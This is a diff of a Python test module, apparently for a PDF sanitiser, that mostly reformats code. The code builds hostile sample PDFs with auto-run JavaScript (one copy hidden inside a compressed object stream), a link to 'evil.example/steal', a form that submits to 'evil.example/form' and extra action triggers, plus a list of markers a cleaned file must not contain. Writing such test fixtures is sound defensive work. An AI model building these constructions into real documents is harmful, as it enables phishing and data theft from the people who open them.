@@ -15,8 +15,20 @@ import zlib
 from PIL import Image
 
 # Markers a stored file must never contain once we rebuilt it.
-PDF_ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/URI", b"/SubmitForm", b"/Launch",
-                      b"/EmbeddedFile", b"/AcroForm", b"/Annots", b"app.alert", b"evil.example")
+PDF_ACTIVE_MARKERS = (
+    b"/JavaScript",
+    b"/JS",
+    b"/OpenAction",
+    b"/AA",
+    b"/URI",
+    b"/SubmitForm",
+    b"/Launch",
+    b"/EmbeddedFile",
+    b"/AcroForm",
+    b"/Annots",
+    b"app.alert",
+    b"evil.example",
+)
 PAGE_TEXT = b"BT /F1 24 Tf 72 700 Td (Surat rujukan) Tj ET"
 
 
@@ -25,7 +37,7 @@ def _page_objects(page_extra: bytes = b"") -> dict[int, bytes]:
     return {
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
-           b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
+        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
         4: b"<< /Length %d >>\nstream\n" % len(PAGE_TEXT) + PAGE_TEXT + b"\nendstream",
         5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
     }
@@ -59,8 +71,12 @@ def object_stream_pdf(objects: dict[int, bytes], packed: list[int]) -> bytes:
     out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
     offsets = {}
     plain = {n: o for n, o in objects.items() if n not in packed}
-    plain[stream_number] = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
-                            % (len(packed), len(header), len(data)) + data + b"\nendstream")
+    plain[stream_number] = (
+        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(packed), len(header), len(data))
+        + data
+        + b"\nendstream"
+    )
     for number in sorted(plain):
         offsets[number] = len(out)
         out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
@@ -72,8 +88,10 @@ def object_stream_pdf(objects: dict[int, bytes], packed: list[int]) -> bytes:
         else:
             rows.append(struct.pack(">BIH", 1, offsets[number], 0))
     table = zlib.compress(b"".join(rows))
-    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
-            b"stream\n" % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n")
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
+        b"stream\n" % (xref_number, xref_number + 1, len(table)) + table + b"\nendstream\nendobj\n"
+    )
     out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
     return bytes(out)
 
@@ -88,13 +106,15 @@ def hostile_pdfs() -> dict[str, bytes]:
     open_action = {**_page_objects(), 1: catalog + b"/OpenAction 6 0 R >>", 6: _js_action()}
     # The JavaScript lives only inside the compressed object stream: no plain-text marker in the file.
     in_object_stream = {**_page_objects(), 1: catalog + b"/OpenAction 6 0 R >>", 6: _js_action()}
-    link = (b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] "
-            b"/A << /S /URI /URI (https://evil.example/steal) >> >>")
+    link = (
+        b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] /A << /S /URI /URI (https://evil.example/steal) >> >>"
+    )
     uri = {**_page_objects(b"/Annots [6 0 R] "), 1: catalog + b">>", 6: link}
-    submit = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [72 600 200 640] "
-              b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >> >>")
-    submit_form = {**_page_objects(b"/Annots [6 0 R] "), 1: catalog + b"/AcroForm << /Fields [6 0 R] >> >>",
-                   6: submit}
+    submit = (
+        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (kirim) /Rect [72 600 200 640] "
+        b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >> >>"
+    )
+    submit_form = {**_page_objects(b"/Annots [6 0 R] "), 1: catalog + b"/AcroForm << /Fields [6 0 R] >> >>", 6: submit}
     additional = {**_page_objects(b"/AA << /O 6 0 R >> "), 1: catalog + b"/AA << /WC 6 0 R >> >>", 6: _js_action()}
     return {
         "open_action_js": classic_pdf(open_action),
